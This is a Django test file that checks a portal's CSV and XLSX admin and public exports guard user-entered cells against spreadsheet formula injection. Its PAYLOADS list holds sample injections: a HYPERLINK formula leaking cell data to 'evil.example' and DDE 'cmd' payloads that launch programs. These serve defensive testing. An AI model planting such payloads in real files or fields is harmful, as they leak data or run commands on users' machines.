"""No export runs what the public wrote as a spreadsheet formula (issue 11, defect 4).

Each CSV is read back with Python's csv module and each XLSX with openpyxl, as a spreadsheet
would read them: no text cell starts with `=`, `+`, `-`, `@`, tab or carriage return, and the
text is still there behind the `'` guard. The editors and moderators export as themselves.
"""

import csv
import io
from io import StringIO

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import call_command

import pytest
from openpyxl import load_workbook

from courses.factories import RegistrationFactory
from innovators.factories import InnovatorFactory
from innovators.models import Innovator
from portal.csv import FORMULA_PREFIXES, safe_cell, unguard
from stories.editorial import EDITORS, MODERATORS
from stories.factories import StorySubmissionFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = PAYLOADS[0]


def login(client, username, group_name):
    user = get_user_model().objects.create_user(username, f"{username}@example.org", "x")
    user.groups.add(Group.objects.get(name=group_name))
    client.force_login(user)
    return client


@pytest.fixture
def redazione(client, db):
    return login(client, "redazione", EDITORS)


@pytest.fixture
def moderazione(client, db):
    return login(client, "moderazione", MODERATORS)


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    rows = []
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)
        rows.append([cell.value for cell in row])
    return rows


def assert_safe(rows, *expected):
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    dangerous = [cell for cell in cells if cell.startswith((*FORMULA_PREFIXES, "\n"))]
    assert not dangerous
    # The text is kept behind the guard (XML, hence XLSX, reads a carriage return as \n).
    normalised = {cell.replace("\r", "\n") for cell in cells}
    for text in expected:
        assert safe_cell(text).replace("\r", "\n") in normalised, text


def test_safe_cell_guards_formulas_only():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
        assert unguard(safe_cell(payload)) == payload
    assert safe_cell("Vivai Verde") == "Vivai Verde"
    assert safe_cell(-3) == -3
    assert unguard("'ciao") == "'ciao"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_registrations_export(redazione, site, export_format):
    for payload in PAYLOADS:
        RegistrationFactory(event=site["course"], name=payload, organisation=payload, needs=payload)
    response = redazione.get(f"/admin/snippets/courses/registration/?export={export_format}")
    rows = csv_rows(response) if export_format == "csv" else xlsx_rows(response)
    assert len(rows) == len(PAYLOADS) + 1
    assert_safe(rows, *PAYLOADS)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_innovators_export_with_unpublished_join_requests(moderazione, site, export_format):
    InnovatorFactory(
        name=FORMULA, short_description="+1+1", address="@SUM(A1)", website="", live=False
    )
    response = moderazione.get(f"/admin/snippets/innovators/innovator/?export={export_format}")
    rows = csv_rows(response) if export_format == "csv" else xlsx_rows(response)
    assert_safe(rows, FORMULA, "@SUM(A1)")


def test_story_submissions_export_guards_the_draft_story_column(redazione, site):
    story = site["story"]
    story.title = FORMULA
    story.save_revision().publish()
    StorySubmissionFactory(title="-1+1", text="@cmd", story=story, innovator=site["innovator"])
    site["innovator"].name = "=Vivai"
    site["innovator"].save()
    rows = csv_rows(redazione.get("/admin/storysubmission/?export=csv"))
    heading = rows[0].index("Bozza della storia")
    assert rows[1][heading] == "'" + FORMULA
    assert_safe(rows, FORMULA, "-1+1", "@cmd", "=Vivai")
    assert_safe(xlsx_rows(redazione.get("/admin/storysubmission/?export=xlsx")), FORMULA)


def test_public_innovators_csv_and_the_import_round_trip(client, site, tmp_path):
    innovator = site["innovator"]
    innovator.name = FORMULA
    innovator.short_description = "-1 tonnellata di CO2"
    innovator.address = "\t=1+1"
    innovator.save()
    response = client.get("/api/innovatori.csv")
    rows = csv_rows(response)
    assert_safe(rows, FORMULA, "-1 tonnellata di CO2")
    # Our own export imported again keeps the text as it was written.
    path = tmp_path / "innovatori.csv"
    path.write_bytes(response.content)
    Innovator.objects.filter(pk=innovator.pk).update(name="Altro", short_description="Altro")
    call_command("import_innovators", str(path), stdout=StringIO(), verbosity=0)
    innovator.refresh_from_db()
    assert innovator.name == FORMULA
    assert innovator.short_description == "-1 tonnellata di CO2"


def test_impact_csv_guards_editor_labels(client, site):
    site["sector"].name = "=Vivaismo"
    site["sector"].save()
    rows = csv_rows(client.get("/api/impatto/innovators_by_sector.csv"))
    assert_safe(rows, "=Vivaismo")
